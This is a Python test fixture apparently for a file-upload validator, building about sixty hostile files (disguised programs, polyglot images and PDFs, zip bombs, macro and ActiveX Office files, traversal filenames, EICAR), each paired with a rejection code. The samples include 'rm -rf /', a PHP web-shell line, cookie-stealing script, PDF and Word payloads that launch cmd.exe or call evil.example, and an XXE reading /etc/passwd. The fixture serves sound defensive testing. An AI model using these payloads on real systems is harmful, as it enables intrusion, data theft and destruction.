"""Forty hostile files and more, each with the code that refuses it.

Where a file is an ordinary photo with something hidden in what surrounds the picture, it is
refused as well, although drawing it anew would leave nothing of that.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO

from tests.workflows.evidence import clamav, made

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file that means harm: what it is, what it is called, what it holds, what refuses it."""

    what: str
    name: str
    content: bytes
    code: str


def _zip(parts: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return file.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def _wide_png() -> bytes:
    """Write the head of a picture of 50,000 by 50,000 points that weighs nothing."""
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(bytes(50_000)))
        + _chunk(b"IEND", b"")
    )


def _png_with_text(words: bytes) -> bytes:
    plain = made.png()
    return plain[:33] + _chunk(b"tEXt", b"Comment\0" + words) + plain[33:]


def _pdf_saying(entry: bytes) -> bytes:
    """Write a PDF by hand whose catalogue says one thing more."""
    parts = (
        b"<</Type/Catalog/Pages 2 0 R" + entry + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    written, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(written))
        written += b"%d 0 obj" % number + part + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        written
        + b"xref\n0 4\n0000000000 65535 f \n"
        + table
        + b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF" % len(written)
    )


RELS = "word/_rels/document.xml.rels"
REACHES_OUT = (
    b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DOCX, XLSX, PDF, JPEG, PNG = made.docx(), made.xlsx(), made.pdf(), made.jpeg(), made.png()

HOSTILE = [
    Hostile("program", "virus.exe", b"MZ" + bytes(200), "file_kind"),
    Hostile("program called a photo", "anh.jpg", b"MZ" + bytes(200), "file_kind"),
    Hostile("program called a PDF", "nghi-quyet.pdf", b"MZ\x90\0" + bytes(200), "file_kind"),
    Hostile("Linux program called Word", "a.docx", b"\x7fELF" + bytes(200), "file_kind"),
    Hostile("shell script called a photo", "a.png", b"#!/bin/sh\nrm -rf /\n", "file_kind"),
    Hostile("PHP called a photo", "a.jpg", b"<?php system($_GET['x']); ?>", "file_kind"),
    Hostile("photo called a program", "anh.jpg.exe", JPEG, "file_kind"),
    Hostile("photo called PHP", "anh.php", JPEG, "file_kind"),
    Hostile("photo called a page", "anh.html", JPEG, "file_kind"),
    Hostile("SVG with a script", "a.svg", SVG, "file_kind"),
    Hostile("SVG called PNG", "a.png", SVG, "file_kind"),
    Hostile("HTML called PDF", "a.pdf", b"<html>" + SCRIPT + b"</html>", "file_kind"),
    Hostile("HTML before a PDF", "a.pdf", b"<html>" + SCRIPT + b"</html>" + PDF, "file_kind"),
    Hostile("GIF with a script", "a.gif", b"GIF89a/*" + SCRIPT + b"*/", "file_kind"),
    Hostile("photo with a script behind it", "a.jpg", JPEG + SCRIPT, "file_hidden"),
    Hostile("photo with PHP behind it", "a.jpg", JPEG + b"<?php x(); ?>", "file_hidden"),
    Hostile(
        "photo with an archive behind it", "a.jpg", JPEG + _zip({"a.class": b"x"}), "file_hidden"
    ),
    Hostile("photo with a PDF behind it", "a.jpg", JPEG + PDF, "file_hidden"),
    Hostile("picture with a script as its comment", "a.png", _png_with_text(SCRIPT), "file_hidden"),
    Hostile("PDF with an archive behind it", "a.pdf", PDF + _zip({"a.class": b"x"}), "file_hidden"),
    Hostile("archive with a PDF before it", "a.docx", PDF + DOCX, "file_hidden"),
    Hostile("Word file with a page behind it", "a.docx", DOCX + SCRIPT, "file_hidden"),
    Hostile("Word file with a comment to its archive", "a.docx", _zip(
        {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}, comment=SCRIPT
    ), "file_hidden"),
    Hostile("Word file with a part outside it", "a.docx", made.with_part(
        DOCX, "../../etc/cron.d/x", b"x"
    ), "file_hidden"),
    Hostile("picture of 50,000 × 50,000", "a.png", _wide_png(), "file_pixels"),
    Hostile("zip bomb called Word", "a.docx", made.with_part(
        DOCX, "word/media/a.xml", bytes(20_000_000)
    ), "file_bomb"),
    Hostile("spreadsheet of 121 MB", "a.xlsx", made.with_part(
        XLSX, "xl/worksheets/sheet9.xml", bytes(121 * 1024 * 1024)
    ), "file_bomb"),
    Hostile("archive of 4,000 parts", "a.xlsx", _zip(
        {"[Content_Types].xml": b"<x/>"} | {f"xl/{n}": b"" for n in range(4_000)}
    ), "file_bomb"),
    Hostile("name that climbs", "../../etc/passwd.jpg", JPEG, "file_name"),
    Hostile("name that climbs on Windows", "..\\..\\boot.jpg", JPEG, "file_name"),
    Hostile("name with NUL", "anh.jpg\0.exe", JPEG, "file_name"),
    Hostile("name that is turned round", "anh\u202egpj.exe", JPEG, "file_name"),
    Hostile("name with a line break", "a.jpg\r\nSet-Cookie: x", JPEG, "file_name"),
    Hostile("PDF with a password", "a.pdf", made.pdf(password="x"), "file_locked"),
    Hostile("PDF with a script", "a.pdf", _pdf_saying(
        b"/OpenAction<</S/JavaScript/JS(app.alert)>>"
    ), "file_active"),
    Hostile("PDF with a script by name", "a.pdf", _pdf_saying(
        b"/Names<</JavaS#63ript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>"
    ), "file_active"),
    Hostile("PDF that starts a program", "a.pdf", _pdf_saying(
        b"/OpenAction<</S/Launch/F(cmd.exe)>>"
    ), "file_active"),
    Hostile("PDF that hides its script", "a.pdf", _pdf_saying(
        b"/OpenAction<</S/Java#53cript/JS(app.alert)>>"
    ), "file_active"),
    Hostile("PDF that acts when it is left", "a.pdf", _pdf_saying(
        b"/AA<</WC<</S/SubmitForm/F(http://evil.example)>>>>"
    ), "file_active"),
    Hostile("PDF with a file in it", "a.pdf", made.pdf(attachment=True), "file_active"),
    Hostile(
        "PDF with a form of scripts", "a.pdf", _pdf_saying(b"/AcroForm<</XFA[(x)]>>"), "file_active"
    ),
    Hostile("PDF of nothing", "a.pdf", b"%PDF-1.7\n" + bytes(500), "file_broken"),
    Hostile("PDF whose pages go round in a circle", "a.pdf", _pdf_saying(b"").replace(
        b"[3 0 R]", b"[2 0 R]"
    ), "file_broken"),
    Hostile("Word file with macros", "a.docx", made.with_part(
        DOCX, "word/vbaProject.bin", OLE
    ), "file_macros"),
    Hostile("macro file called Excel", "a.xlsx", made.with_text(
        XLSX, "[Content_Types].xml", b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main"
    ), "file_macros"),
    Hostile("macro file called by its name", "a.docm", DOCX, "file_kind"),
    Hostile("spreadsheet with old macros", "a.xlsx", made.with_part(
        XLSX, "xl/macrosheets/sheet1.xml", b"<x/>"
    ), "file_macros"),
    Hostile("Word file with a program in it", "a.docx", made.with_part(
        DOCX, "word/embeddings/oleObject1.bin", OLE
    ), "file_macros"),
    Hostile("Word file with ActiveX", "a.docx", made.with_part(
        DOCX, "word/activeX/activeX1.xml", b"<x/>"
    ), "file_macros"),
    Hostile("Word file that fetches a template", "a.docx", made.with_text(
        DOCX, RELS, b"</Relationships>", REACHES_OUT
    ), "file_active"),
    Hostile("Word file that fetches a picture", "a.docx", made.with_text(
        DOCX, RELS, b"</Relationships>", REACHES_OUT.replace(b"attachedTemplate", b"image")
    ), "file_active"),
    Hostile("Word file that includes a picture", "a.docx", made.with_part(
        DOCX, "word/header9.xml", b'<w:instrText>INCLUDEPICTURE "http://evil.example/a"</w:instrText>'
    ), "file_active"),
    Hostile("Word file that reads other files", "a.docx", made.with_part(
        DOCX, "word/footer9.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ), "file_active"),
    Hostile("Word file that calls a program", "a.docx", made.with_part(
        DOCX, "word/header9.xml", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"
    ), "file_active"),
    Hostile("old Word file", "a.doc", OLE, "file_kind"),
    Hostile("old or locked Word file", "a.docx", OLE, "file_old_office"),
    Hostile("archive called Word", "a.docx", _zip({"a.txt": b"x"}), "file_kind"),
    Hostile("archive", "a.zip", _zip({"a.txt": b"x"}), "file_kind"),
    Hostile("EICAR", "eicar.jpg", clamav.EICAR, "file_virus"),
    Hostile("EICAR in a PDF", "a.pdf", PDF + b"%" + clamav.EICAR, "file_virus"),
    Hostile("nothing", "a.jpg", b"", "file_empty"),
]  # fmt: skip
